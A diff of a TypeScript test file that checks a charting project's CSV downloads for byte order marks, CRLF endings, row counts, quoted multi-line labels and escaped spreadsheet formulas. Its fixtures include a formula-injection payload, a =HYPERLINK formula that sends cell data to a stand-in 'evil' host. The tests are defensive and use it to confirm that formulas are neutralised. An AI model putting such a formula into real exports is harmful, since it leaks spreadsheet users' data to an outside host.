@@ -5,9 +5,11 @@
 import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import Papa from 'papaparse';
 import { afterAll, describe, expect, it } from 'vitest';
 import { compareDownload, verifyDownloads } from '../../../src/lib/build/verify-downloads.ts';
 import { chartCsv } from '../../../src/lib/chart/to-csv.ts';
+import { parseCsv } from '../../../src/lib/data/csv.ts';
 import { engagementSpec, MICRO, series } from '../chart/spec-fixtures.ts';
 
 const temp = mkdtempSync(join(tmpdir(), 'trendbook-downloads-'));
@@ -34,14 +36,29 @@ describe('downloads read back', () => {
   it('name every kind of difference', () => {
     const text = chartCsv(spec);
     expect(compareDownload(text.slice(1), spec)).toBe('no UTF-8 byte order mark (Excel would misread accents)');
-    expect(compareDownload(text.replace(/\r\n/g, '\n'), spec)).toBe('a line ends in LF, not CRLF');
+    expect(compareDownload(text.replace(/\r\n/g, '\n'), spec)).toBe('a record ends in LF or CR, not CRLF');
     expect(compareDownload(text.replace('0.30000000000000004', '0.3'), spec)).toBe(
-      'row 2 is ["2016","=HYPERLINK(\\"http://evil/?\\"&A1,\\"Click\\")","0.3","reported","",""], expected ["2016","=HYPERLINK(\\"http://evil/?\\"&A1,\\"Click\\")","0.30000000000000004","reported","",""]',
+      'row 2, engagement_rate of year "2016", label "=HYPERLINK(\\"http://evil/?\\"&A1,\\"Click\\")": "0.3", expected "0.30000000000000004"',
     );
     expect(compareDownload(text.replace(/\r\n2018,__proto__[^\r]*/, ''), spec)).toBe('4 rows, expected 5 (one per point drawn)');
     expect(compareDownload(text.replace('year,label', 'label,year'), spec)).toBe(
       'header is ["label","year","engagement_rate","basis","range_low","range_high"], expected ["year","label","engagement_rate","basis","range_low","range_high"]',
     );
+  });
+
+  it('catch a writer that drops the formula prefix or writes a number as text', () => {
+    const text = chartCsv(spec);
+    expect(compareDownload(text.replace(`"'=HYPERLINK`, '"=HYPERLINK'), spec)).toBe(
+      'row 2: label "=HYPERLINK(\\"http://evil/?\\"&A1,\\"Click\\")" would run as a formula in a spreadsheet (no \' before it)',
+    );
+    expect(compareDownload(text.replace(',-5,', ",'-5,"), spec)).toBe('row 3, engagement_rate of year "2018", label "=HYPERLINK(\\"http://evil/?\\"&A1,\\"Click\\")": "\'-5", expected "-5"');
+  });
+
+  it('catch a row that stands in for another point', () => {
+    const text = chartCsv(spec);
+    const lines = text.split('\r\n');
+    lines[2] = lines[1]!;
+    expect(compareDownload(lines.join('\r\n'), spec)).toBe('row 3 repeats the point year "2016", label "=HYPERLINK(\\"http://evil/?\\"&A1,\\"Click\\")"');
   });
 
   it('are all checked in a built folder, and a missing one is named', () => {
@@ -50,5 +67,33 @@ describe('downloads read back', () => {
     writeFileSync(join(dir, 'engagement.csv'), chartCsv(spec));
     expect(verifyDownloads(temp, [{ slug: 'q3', charts: [spec] }])).toEqual([]);
     expect(verifyDownloads(temp, [{ slug: 'q3', charts: [spec, { ...spec, id: 'cost' }] }])).toEqual(['/downloads/q3/cost.csv: missing']);
+  });
+});
+
+describe('a label with a line break (issue #14)', () => {
+  const story = engagementSpec({
+    x: { column: 'story', label: 'Story', format: { type: 'category', decimals: 0 }, values: ['Once upon\na time', 'The end'], labels: ['Once upon\na time', 'The end'] },
+  });
+
+  it('is written quoted, with CRLF between records, and passes the check', () => {
+    const text = chartCsv(story);
+    expect(text).toBe('\uFEFFstory,tier,engagement_rate,basis\r\n"Once upon\na time",micro,2.4,reported\r\nThe end,micro,2.2,reported\r\n"Once upon\na time",mega,1.7,reported\r\nThe end,mega,1.5,reported\r\n');
+    expect(compareDownload(text, story)).toBeUndefined();
+  });
+
+  it('reads back as the same cell in a CSV reader that guesses line endings, and in the project\'s own', () => {
+    const text = chartCsv(story).slice(1);
+    const guessed = Papa.parse<string[]>(text, { skipEmptyLines: true });
+    expect(guessed.errors).toEqual([]);
+    expect(guessed.data.map((row) => row[0])).toEqual(['story', 'Once upon\na time', 'The end', 'Once upon\na time', 'The end']);
+    const own = parseCsv(text, 'download.csv');
+    expect(own.problems).toEqual([]);
+    expect(own.rows.map((row) => row.cells[0])).toEqual(['Once upon\na time', 'The end', 'Once upon\na time', 'The end']);
+  });
+
+  it('fails the check when the writer leaves it unquoted, or drops the break', () => {
+    const text = chartCsv(story);
+    expect(compareDownload(text.replaceAll('"Once upon\na time"', 'Once upon\na time'), story)).toBe('a record ends in LF or CR, not CRLF');
+    expect(compareDownload(text.replaceAll('"Once upon\na time"', 'Once upon a time'), story)).toBe('row 2: story "Once upon a time" is not on the chart\'s x axis');
   });
 });
